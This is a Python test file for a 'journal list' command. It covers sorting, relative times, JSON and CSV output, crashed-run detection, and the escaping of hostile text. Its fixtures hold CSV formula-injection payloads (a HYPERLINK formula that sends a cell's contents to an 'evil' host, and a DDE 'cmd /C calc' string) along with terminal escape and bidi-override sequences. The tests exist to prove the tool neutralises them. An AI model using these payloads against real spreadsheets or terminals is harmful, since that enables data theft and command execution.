"""`journal list`: newest first, its columns, -n, --absolute, --sort, --json, --csv, crashed runs,
hostile text; the same output with the index and without it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from conftest import journal, records
from readkit import (
    HOST,
    both,
    cli,
    clock_at,
    dead_pid,
    ids_listed,
    now,
    one_error_line,
    other_host,
    write_run,
)


def columns(line: str) -> list[str]:
    return re.split(r" {2,}", line)


def strict_json(line: str) -> Any:
    def refuse(name: str) -> None:
        raise AssertionError(f"not JSON: {name}")

    return json.loads(line, parse_constant=refuse)


# -- real runs made through the CLI ------------------------------------------------------------

def test_real_runs_newest_first_with_their_columns(repo: Path) -> None:
    assert journal("new", "-n", "an idea\nwith details below", "-t", "idea", cwd=repo).returncode == 0
    done = journal("new", "-n", "train it", "-m", "acc=0.9", "-m", "loss=0.25", "-m", "f1=0.5",
                   "-m", "fourth=1", "--", "python", "-c", "pass", cwd=repo)
    assert done.returncode == 0, done.stderr
    (repo / "train.py").write_text("print('changed')\n")
    done = journal("new", "-n", "dirty and failing", "--", "python", "-c",
                   "import sys; sys.exit(3)", cwd=repo)
    assert done.returncode == 3
    made = records(repo / ".journal")
    commit = made[0]["git"]["commit"][:7]

    # The list's clock one second after the last run started: every run started "just now".
    last_start = max(record["started"] for record in made)
    result = both("list", cwd=repo, env=clock_at(last_start + dt.timedelta(seconds=1)))
    assert result.code == 0 and result.err == ""
    rows = [columns(line) for line in result.lines]
    assert [row[0] for row in rows] == [made[2]["id"], made[1]["id"], made[0]["id"]]
    assert [row[1] for row in rows] == ["just now"] * 3
    assert [row[2] for row in rows] == ["failed", "finished", "note"]    # an idea, not a run
    assert [row[3] for row in rows] == [commit + "*", commit, commit]
    assert re.fullmatch(r"\d+\.\ds", rows[0][4]) and re.fullmatch(r"\d+\.\ds", rows[1][4])
    assert rows[2][4] == "-"                            # a note has no duration
    assert rows[0][5:] == ["dirty and failing"]
    assert rows[1][5:] == ["train it", "acc=0.9 loss=0.25 f1=0.5"]   # three headline metrics
    assert rows[2][5:] == ["an idea"]                   # the first line of the note
    assert all(line == line.rstrip() for line in result.lines)

    ran = [json.loads(line) for line in both("list", "--json", cwd=repo).lines]
    assert [run["id"] for run in ran] == [r["id"] for r in reversed(made)]
    assert ran[0]["exit_code"] == 3 and ran[0]["git"]["dirty"] is True
    assert ran[1]["metrics"] == {"acc": 0.9, "loss": 0.25, "f1": 0.5, "fourth": 1}


# -- -n, times, durations --------------------------------------------------------------------------

def test_limit(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    start = now() - dt.timedelta(days=1)
    ids = [write_run(jd, start + dt.timedelta(minutes=n), note=f"run {n}") for n in range(25)]
    assert ids_listed(both("list", cwd=tmp_path)) == ids[::-1][:20]      # default 20
    assert ids_listed(both("list", "-n", "3", cwd=tmp_path)) == ids[::-1][:3]
    assert ids_listed(both("list", "--limit", "0", cwd=tmp_path)) == ids[::-1]
    assert cli("list", "-n", "-1", cwd=tmp_path).code == 2


@pytest.mark.parametrize(("ago", "shown"), [
    (dt.timedelta(seconds=2), "just now"),
    (dt.timedelta(seconds=40), "40s ago"),
    (dt.timedelta(minutes=5, seconds=10), "5m ago"),
    (dt.timedelta(hours=3, minutes=5), "3h ago"),
    (dt.timedelta(days=2, hours=1), "2d ago"),
    (dt.timedelta(days=22), "3w ago"),
    (dt.timedelta(hours=-1), "in the future"),
])
def test_relative_times(tmp_path: Path, ago: dt.timedelta, shown: str) -> None:
    moment = now()
    write_run(tmp_path / ".journal", moment - ago)
    assert columns(both("list", cwd=tmp_path, env=clock_at(moment)).out.strip())[1] == shown


def test_old_runs_show_their_date_and_absolute_shows_all(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    moment = now()
    old = moment - dt.timedelta(weeks=10)
    recent = moment - dt.timedelta(hours=2)
    write_run(jd, old)
    write_run(jd, recent)
    relative = [columns(line)[1] for line in both("list", cwd=tmp_path, env=clock_at(moment)).lines]
    assert relative == ["2h ago", old.strftime("%Y-%m-%d")]
    absolute = [columns(line)[1] for line in both("list", "--absolute", cwd=tmp_path).lines]
    assert absolute == [recent.strftime("%Y-%m-%d %H:%M"), old.strftime("%Y-%m-%d %H:%M")]


@pytest.mark.parametrize(("duration", "shown"), [
    (0.04, "0.0s"), (12.5, "12.5s"), (75, "1m 15s"), (3725, "1h 02m"), (90061, "1d 1h")])
def test_durations(tmp_path: Path, duration: float, shown: str) -> None:
    write_run(tmp_path / ".journal", duration=duration)
    assert columns(both("list", cwd=tmp_path).out.strip())[4] == shown


def test_long_notes_are_cut_and_metrics_rounded(tmp_path: Path) -> None:
    write_run(tmp_path / ".journal", note="x" * 80 + "\nsecond line",
              metrics={"acc": 82.47612345, "loss": 1e-7, "n": 3, "hidden": 4})
    row = columns(both("list", cwd=tmp_path).out.strip())
    assert row[5] == "x" * 59 + "…"
    assert row[6] == "acc=82.4761 loss=1e-07 n=3"


# -- --sort ------------------------------------------------------------------------------------------

def test_sort(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    t0 = now() - dt.timedelta(hours=1)
    runs = {name: write_run(jd, t0 + dt.timedelta(minutes=n), metrics=metrics, params=params)
            for n, (name, metrics, params) in enumerate([
                ("mid", {"acc": 0.5, "loss": 0.5}, {"lr": 0.01}),
                ("best", {"acc": 0.9, "loss": 0.1}, {"lr": 0.001}),
                ("none", {}, {}),
                ("nan", {"acc": float("nan"), "loss": float("nan")}, {"lr": "auto"}),
                ("worst", {"acc": 0.1, "loss": 2.0}, {"lr": 0.1}),
                ("tie", {"acc": 0.5, "loss": 0.5}, {"lr": 0.01}),
            ])}

    def order(*args: str) -> list[str]:
        by_id = {run_id: name for name, run_id in runs.items()}
        return [by_id[run_id] for run_id in ids_listed(both("list", *args, cwd=tmp_path))]

    # Highest first; equal values keep newest first; runs without a number last, newest first.
    assert order("--sort", "acc") == ["best", "tie", "mid", "worst", "nan", "none"]
    assert order("--sort", "-loss") == ["best", "tie", "mid", "worst", "nan", "none"]
    assert order("--sort", "metrics.loss") == ["worst", "tie", "mid", "best", "nan", "none"]
    assert order("--sort", "-params.lr") == ["best", "tie", "mid", "worst", "nan", "none"]
    assert order("--sort", "acc", "-n", "2") == ["best", "tie"]
    assert order("--sort", "acc", "-n", "5") == ["best", "tie", "mid", "worst", "nan"]
    assert order("--sort", "acc", "-n", "0") == ["best", "tie", "mid", "worst", "nan", "none"]
    table = list(csv.DictReader(io.StringIO(cli("list", "--sort", "-loss", "-n", "0", "--csv",
                                                cwd=tmp_path).out)))
    by_id = {run_id: name for name, run_id in runs.items()}
    assert [by_id[row["id"]] for row in table] == ["best", "tie", "mid", "worst", "nan", "none"]
    assert order("--sort", "acc", "--where", "acc<0.8") == ["tie", "mid", "worst"]
    assert order("--sort", "nosuch") == ["tie", "worst", "nan", "none", "best", "mid"]
    assert one_error_line(cli("list", "--sort", "-", cwd=tmp_path)).startswith(
        "journal: error: --sort needs a metric or param name")


# -- --json and --csv ------------------------------------------------------------------------------

def test_json_is_strict_and_inert(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    run_id = write_run(jd, note="leak \x1b]52;c;aGk=\x07 \u202eevil\u202c \x9b2J 日本語",
                       metrics={"acc": float("nan"), "loss": float("inf"), "ok": 1.5},
                       status="running", pid=dead_pid(), duration=None, ended=None, exit_code=None)
    result = both("list", "--json", cwd=tmp_path)
    line = result.out.strip()
    for raw in ("\x1b", "\x07", "\u202e", "\u202c", "\x9b"):
        assert raw not in line
    assert "日本語" in line                              # readable text stays readable
    run = strict_json(line)
    assert run["id"] == run_id and run["status"] == "crashed"     # the effective status
    assert run["note"] == "leak \x1b]52;c;aGk=\x07 \u202eevil\u202c \x9b2J 日本語"
    assert run["metrics"] == {"acc": "nan", "loss": "inf", "ok": 1.5}
    assert dt.datetime.fromisoformat(run["started"]).tzinfo is not None
    assert Path(run["path"]).name == f"{run_id}.toml" and Path(run["path"]).is_file()


def test_csv(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    t0 = now() - dt.timedelta(hours=1)
    first = write_run(jd, t0, note="plain", tags=["a", "b"], params={"lr": 0.1, "opt": "adam"},
                      metrics={"acc": 0.5})
    second = write_run(jd, t0 + dt.timedelta(minutes=1),
                       note='=HYPERLINK("http://evil/?"&A1)\nline two \x1b]52;c;aGk=\x07',
                       tags=["@SUM(1)", "ok"], params={"opt": "+cmd|' /C calc'!A0", "depth": -3},
                       metrics={"loss": -0.5, "acc": 0.75},
                       git={"commit": "-2+3", "dirty": True})
    result = both("list", "--csv", cwd=tmp_path)
    assert "\x1b" not in result.out and "\x07" not in result.out
    rows = list(csv.reader(io.StringIO(result.out)))
    assert rows[0] == ["id", "started", "ended", "status", "exit_code", "duration", "commit",
                       "branch", "dirty", "host", "cwd", "command", "note", "tags", "params.opt",
                       "params.depth", "params.lr", "metrics.loss", "metrics.acc"]
    newest, oldest = (dict(zip(rows[0], row)) for row in rows[1:])
    assert (newest["id"], oldest["id"]) == (second, first)
    assert newest["note"] == "'=HYPERLINK(\"http://evil/?\"&A1)\nline two \\x1b]52;c;aGk=\\x07"
    assert newest["tags"] == "'@SUM(1);ok"
    assert newest["params.opt"] == "'+cmd|' /C calc'!A0"
    assert newest["commit"] == "'-2+3"
    assert newest["params.depth"] == "-3" and newest["metrics.loss"] == "-0.5"   # numbers as they are
    assert newest["params.lr"] == "" and newest["dirty"] == "true"
    assert oldest["tags"] == "a;b" and oldest["params.lr"] == "0.1" and oldest["metrics.loss"] == ""
    assert dt.datetime.fromisoformat(oldest["started"]) == t0.replace(
        microsecond=t0.microsecond // 1000 * 1000)
    assert oldest["status"] == "finished" and oldest["duration"] == "12.5"


def test_hostile_text_in_the_table_is_escaped(tmp_path: Path) -> None:
    write_run(tmp_path / ".journal", note="\x1b]52;c;aGk=\x07copied \u202eslo\u200b",
              status="finished\x1b[2J", metrics={"\x1b[31macc": 1},
              git={"commit": "\x1b]8;;http://x\x07abc", "dirty": False})
    out = both("list", cwd=tmp_path).out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202e]", out), repr(out)
    assert "\\x1b]52;c;aGk=\\x07copied \\u202eslo\\u200b" in out
    assert "finished\\x1b[2J" in out and "\\x1b[31macc=1" in out


# -- crashed runs ------------------------------------------------------------------------------------

def test_running_with_a_dead_wrapper_is_crashed_on_this_host_only(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    t0 = now() - dt.timedelta(minutes=30)
    running = {"status": "running", "duration": None, "ended": None, "exit_code": None}
    crashed = write_run(jd, t0, pid=dead_pid(), note="died", **running)
    elsewhere = write_run(jd, t0 + dt.timedelta(minutes=1), pid=dead_pid(), host=other_host(),
                          note="on the cluster", **running)
    alive = write_run(jd, now() - dt.timedelta(seconds=30), pid=os.getpid(), note="going",
                      **running)
    # The wrapper's pid now belongs to a process that started after the run: not its wrapper.
    reused = write_run(jd, now() - dt.timedelta(days=400), pid=os.getpid(), note="pid reused",
                       **running)
    no_pid = write_run(jd, t0 + dt.timedelta(minutes=2), pid=None, note="no pid", **running)
    finished = write_run(jd, t0 + dt.timedelta(minutes=3), pid=dead_pid(), note="done")

    rows = {columns(line)[0]: columns(line) for line in both("list", cwd=tmp_path).lines}
    assert rows[crashed][2] == "crashed" and rows[crashed][4] == "-"
    assert rows[reused][2] == "crashed"
    assert rows[elsewhere][2] == "running" and rows[elsewhere][4].endswith("…")
    assert rows[alive][2] == "running" and re.fullmatch(r"\d+\.\ds…", rows[alive][4])
    assert rows[no_pid][2] == "running"
    assert rows[finished][2] == "finished"

    assert set(ids_listed(both("list", "--status", "crashed", cwd=tmp_path))) == {crashed, reused}
    assert set(ids_listed(both("list", "-s", "running", cwd=tmp_path))) == {elsewhere, alive, no_pid}
    assert set(ids_listed(both("list", "-s", "running", "-s", "crashed", cwd=tmp_path))) == \
        {crashed, reused, elsewhere, alive, no_pid}
    statuses = {run["id"]: run["status"] for run in map(json.loads, both(
        "list", "--json", cwd=tmp_path).lines)}
    assert statuses[crashed] == "crashed" and statuses[elsewhere] == "running"
    assert [row["status"] for row in csv.DictReader(io.StringIO(both(
        "list", "--csv", "-s", "crashed", cwd=tmp_path).out))] == ["crashed", "crashed"]
    assert HOST != other_host()


def test_a_run_killed_for_real_shows_as_crashed(repo: Path) -> None:
    """The wrapper is SIGKILLed mid-run (no chance to write its end): list says crashed."""
    import signal
    import subprocess
    import sys

    wrapper = subprocess.Popen(
        [sys.executable, "-m", "journal", "new", "-n", "will be killed", "--", sys.executable,
         "-c", "import time; print('started', flush=True); time.sleep(30)"],
        cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        assert wrapper.stdout is not None and wrapper.stdout.readline() == b"started\n"
        assert columns(cli("list", cwd=repo).out.strip())[2] == "running"
    finally:
        os.killpg(wrapper.pid, signal.SIGKILL)
        wrapper.wait()
    row = columns(both("list", cwd=repo).out.strip())
    assert row[2] == "crashed" and row[5] == "will be killed"
    assert records(repo / ".journal")[0]["status"] == "running"      # the file is never rewritten


def test_no_trailing_spaces_when_there_is_no_note(tmp_path: Path) -> None:
    jd = tmp_path / ".journal"
    write_run(jd, now() - dt.timedelta(hours=2), note="", duration=90061.0)
    write_run(jd, now() - dt.timedelta(hours=1), note="", duration=1.5)
    lines = both("list", cwd=tmp_path).lines
    assert [columns(line)[4] for line in lines] == ["1.5s", "1d 1h"]
    assert lines == [line.rstrip() for line in lines]


def test_a_duration_that_is_not_a_number_is_shown_as_unknown(repo: Path) -> None:
    """`duration = inf` or `nan` (hand-made, or from another machine through sync)."""
    assert journal("new", "-n", "odd", "--", "true", cwd=repo).returncode == 0
    path = next((repo / ".journal" / "runs").rglob("*.toml"))
    text = path.read_text()
    for value in ("inf", "nan", "-inf"):
        path.write_text("\n".join(f"duration = {value}" if line.startswith("duration =") else line
                                  for line in text.splitlines()) + "\n")
        done = journal("list", cwd=repo)
        assert done.returncode == 0 and b"Traceback" not in done.stderr
        assert b"odd" in done.stdout


def test_a_long_list_streams_with_the_first_lines_widths(repo: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """`list -n 0` prints runs as they come: the first lines set the columns, later ones follow."""
    import journal.render.rows as rows

    for note in ("a", "b", "c", "d", "e"):
        assert journal("new", "-n", note, cwd=repo).returncode == 0
    monkeypatch.setattr(rows, "WIDTH_WINDOW", 2)
    lines = journal("list", "-n", "0", cwd=repo).stdout.decode().splitlines()
    assert [line.rsplit(None, 1)[-1] for line in lines] == ["e", "d", "c", "b", "a"]
    assert len({line.index(" note ") for line in lines}) == 1      # one status column
